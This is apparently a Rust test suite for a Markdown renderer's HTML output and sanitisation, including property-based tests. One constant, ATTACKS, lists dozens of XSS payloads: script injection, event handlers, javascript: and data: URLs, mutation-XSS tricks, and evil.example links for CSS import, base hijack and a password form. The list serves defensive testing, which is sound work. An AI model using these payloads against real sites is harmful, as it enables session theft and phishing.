//! What Markdown becomes, that nothing gets through, and that both ways agree.

use proptest::prelude::*;

use super::*;

fn html(text: &str) -> String {
    render(text).html
}

#[test]
fn the_usual_marks_become_html() {
    let cases = [
        (
            "Hello *there*, **you**",
            "<p>Hello <em>there</em>, <strong>you</strong></p>",
        ),
        ("one\ntwo", "<p>one<br>\ntwo</p>"),
        ("one\n\ntwo", "<p>one</p>\n<p>two</p>"),
        ("~~gone~~", "<p><del>gone</del></p>"),
        (":tada: now", "<p>🎉 now</p>"),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
        (
            "```rust,ignore\nlet a = 1 < 2;\n```",
            "<pre><code class=\"language-rust\">let a = 1 &lt; 2;\n</code></pre>",
        ),
        (
            "see https://example.org/a?b=c&d=e.",
            "<p>see <a href=\"https://example.org/a?b=c&amp;d=e\" rel=\"noopener nofollow\">https://example.org/a?b=c&amp;d=e</a>.</p>",
        ),
        ("a < b && Vec<String>", "<p>a &lt; b &amp;&amp; Vec&lt;String&gt;</p>"),
        ("3. three", "<ol start=\"3\">\n<li>three</li>\n</ol>"),
    ];
    for (text, expected) in cases {
        assert_eq!(html(text), expected, "{text}");
    }
}

#[test]
fn tables_and_task_lists_are_kept() {
    let table = html("| a | b |\n|:--|--:|\n| 1 | 2 |");
    assert!(
        table.contains("<th align=\"left\">a</th>") && table.contains("<td align=\"right\">2</td>"),
        "{table}"
    );
    let tasks = html("- [x] done\n- [ ] open");
    assert!(tasks.contains("class=\"contains-task-list\""), "{tasks}");
    assert!(tasks.contains("class=\"task-list-item\""), "{tasks}");
    assert_eq!(tasks.matches("type=\"checkbox\"").count(), 2, "{tasks}");
    assert_eq!(tasks.matches("checked=\"\"").count(), 1, "{tasks}");
    assert_eq!(tasks.matches("disabled=\"\"").count(), 2, "{tasks}");
}

#[test]
fn pictures_become_links_so_that_nothing_is_loaded_from_elsewhere() {
    assert_eq!(
        html("![a cat](https://example.org/cat.png)"),
        "<p><a href=\"https://example.org/cat.png\" rel=\"noopener nofollow\">a cat</a></p>"
    );
    assert_eq!(
        html("[![a cat](https://example.org/cat.png)](https://example.org)"),
        "<p><a href=\"https://example.org\" rel=\"noopener nofollow\">a cat</a></p>"
    );
    assert_eq!(
        html("![](https://example.org/cat.png)"),
        "<p><a href=\"https://example.org/cat.png\" rel=\"noopener nofollow\">https://example.org/cat.png</a></p>"
    );
}

#[test]
fn html_is_shown_as_typed() {
    assert_eq!(html("<b>bold</b>?"), "<p>&lt;b&gt;bold&lt;/b&gt;?</p>");
    assert_eq!(
        html("<div onclick=\"x()\">\nhello\n</div>"),
        "<p>&lt;div onclick=\"x()\"&gt;<br>\nhello<br>\n&lt;/div&gt;</p>"
    );
}

#[test]
fn handles_are_found_in_text_but_not_in_quotes_code_links_or_addresses() {
    let text =
        "@ada and (@bo.k), mail x@gus.org or me@dot, `@code` [@link](https://a.org/@b) **@Cy-2.** @@no @_no é@no";
    let rendered = render(text);
    assert_eq!(rendered.handles().collect::<Vec<_>>(), ["ada", "bo.k", "Cy-2"]);
    let quoted = render("> asks @ada\n> > and @bo\n\nwho knows @dot");
    assert_eq!(quoted.handles().collect::<Vec<_>>(), ["dot"]);
    let shown = rendered.resolved(|handle| (handle == "ada").then(|| format!("<i>{}</i>", escape("A & \"da\""))));
    assert!(
        shown.starts_with("<p><i>A &amp; &quot;da&quot;</i> and (@bo.k), mail "),
        "{shown}"
    );
}

#[test]
fn a_text_full_of_handles_is_looked_at_up_to_a_limit() {
    assert_eq!(render(&"@ada ".repeat(3_000)).handles().count(), MAX_HANDLES);
}

/// Attacks after the OWASP filter evasion sheet, ammonia's own corpus, and the advisories of programs of this kind.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=\"javascript:alert(1)\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background:url(javascript:alert(1))\">x",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<base href=\"https://evil.example/\">",
    "<form action=\"https://evil.example\"><input name=password>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](/api/v1/session)",
    "[x](https://a.example\"onmouseover=\"alert(1))",
    "[x](<https://a.example\" onmouseover=\"alert(1)>)",
    "[x](https://a.example \"t\\\" onmouseover=\\\"alert(1)\")",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https:'>",
    "[x](https:sign-out)",
    "<https://a.example/\"onmouseover=\"alert(1)>",
    "![x](javascript:alert(1))",
    "![x\"onerror=\"alert(1)](https://a.example/x.png)",
    "![x](https://a.example/x.png\"onerror=\"alert(1))",
    "![\"><script>alert(1)</script>](x)",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x\" onmouseover=\"alert(1)\nx\n```",
    "`</code><script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [x] <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "@\"><script>alert(1)</script>",
    "www.a.example/\"onmouseover=\"alert(1)",
    "https://a.example/<script>alert(1)</script>",
    "x@a.example\"onmouseover=\"alert(1)",
    "xmpp:x@a.example/javascript:alert(1)",
    "\u{0}<script>alert(1)</script>",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<a href='x' target='_blank' id='root' class='mention' data-user='x'>y</a>",
    "<span class=\"mention\" data-user=\"x\">@Ada</span>",
];

#[test]
fn no_attack_gets_through() {
    for attack in ATTACKS {
        for text in [
            (*attack).to_owned(),
            format!("> {attack}"),
            format!("* one\n* {attack}"),
            format!("**{attack}**"),
            format!("[{attack}](https://a.example)"),
        ] {
            assert_harmless(&text, &html(&text));
        }
    }
}

/// Reads the HTML tag by tag and checks each against what may be there.
fn assert_harmless(text: &str, html: &str) {
    const TAGS: &[&str] = &[
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "em",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "input",
        "li",
        "ol",
        "p",
        "pre",
        "strong",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ];
    let mut at = 0;
    while let Some(found) = html[at..].find('<') {
        let start = at + found;
        let end = tag_end(html.as_bytes(), start);
        let tag = &html[start..end];
        assert!(tag.ends_with('>'), "{text:?} gave an open tag: {html}");
        let inner = tag.trim_start_matches(['<', '/']).trim_end_matches('>');
        let (name, mut rest) = inner.split_once(' ').unwrap_or((inner, ""));
        assert!(TAGS.contains(&name), "{text:?} gave <{name}>: {html}");
        while !rest.is_empty() {
            let (attribute, value) = rest.split_once("=\"").expect("attributes are quoted");
            let (value, more) = value.split_once('"').expect("and closed");
            rest = more.trim_start();
            let fine = match (name, attribute) {
                ("a", "href") => ["http://", "https://", "mailto:"]
                    .iter()
                    .any(|scheme| value.starts_with(scheme)),
                ("a", "rel") => value == "noopener nofollow",
                ("a", "title") => true,
                ("code", "class") => value.starts_with("language-"),
                ("ul" | "ol", "class") => value == "contains-task-list",
                ("li", "class") => value == "task-list-item",
                ("ol", "start") => value.bytes().all(|byte| byte.is_ascii_digit()),
                ("td" | "th", "align") => ["left", "center", "right"].contains(&value),
                ("input", "type") => value == "checkbox",
                ("input", "checked" | "disabled") => value.is_empty(),
                _ => false,
            };
            assert!(fine, "{text:?} gave {attribute}={value:?}: {html}");
        }
        at = end;
    }
}

#[test]
fn hostile_nesting_is_shown_as_typed_and_takes_no_stack_and_little_time() {
    let hostile = [
        ">".repeat(16_384),
        "* ".repeat(8_192),
        "[".repeat(16_384),
        "![".repeat(8_192),
        "[a](".repeat(4_096),
        "*a_ ".repeat(4_096),
        "*".repeat(16_384),
        "`".repeat(16_384),
        "<".repeat(16_384),
        "| a ".repeat(4_096) + "\n" + &"|---".repeat(4_096) + "\n" + &"|x\n".repeat(200),
        (1..=180).map(|n| "`".repeat(n)).collect::<String>(),
        "- a\n".repeat(4_096),
        "[a]: b\n".repeat(2_300) + "[a]",
        "a@a.".repeat(4_096),
        "www.a".repeat(3_000),
        "&".repeat(16_384),
        (0..127).map(|depth| " ".repeat(depth) + "- a\n").collect::<String>(),
    ];
    for text in hostile {
        let started = std::time::Instant::now();
        assert_harmless(&text[..40.min(text.len())], &html(&text));
        let took = started.elapsed();
        assert!(took.as_secs() < 2, "{:?}… took {took:?}", &text[..40]);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4_000))]

    #[test]
    fn the_short_way_gives_what_the_long_way_gives(text in snippets()) {
        if let Some(short) = plain(&text) {
            prop_assert_eq!(short, parsed(&text), "{:?}", text);
        }
    }

    #[test]
    fn whatever_is_typed_comes_out_harmless(text in prop_oneof![snippets(), any::<String>()]) {
        assert_harmless(&text, &html(&text));
    }
}

/// Words mixed with every sign that means something to Markdown, in places where it may.
fn snippets() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        6 => "[a-zA-Z]{1,6}",
        4 => Just(" ".to_owned()),
        2 => Just("\n".to_owned()),
        2 => "[,.;:?!'()/+=#%\"@>-]{1,2}",
        1 => "[0-9]{1,3}[.) :]?",
        1 => "[&<>`*_~|\\[\\]{}$^\\\\\t]{1,3}",
        1 => prop::sample::select(&[
            "www.", "WWW.a.org", "http://a.org", "https:", "mailto:a@b.org", ":tada:", ":+1:", "@ada", "a@b.org", "&amp;",
            "---", "===", "|-|", "é", "🎉", "\u{a0}", "\u{2028}", "\u{feff}", "ftp://x", "x: y", "10:30:15", "[ ]", "![a](b)",
        ][..]).prop_map(str::to_owned),
    ];
    prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}
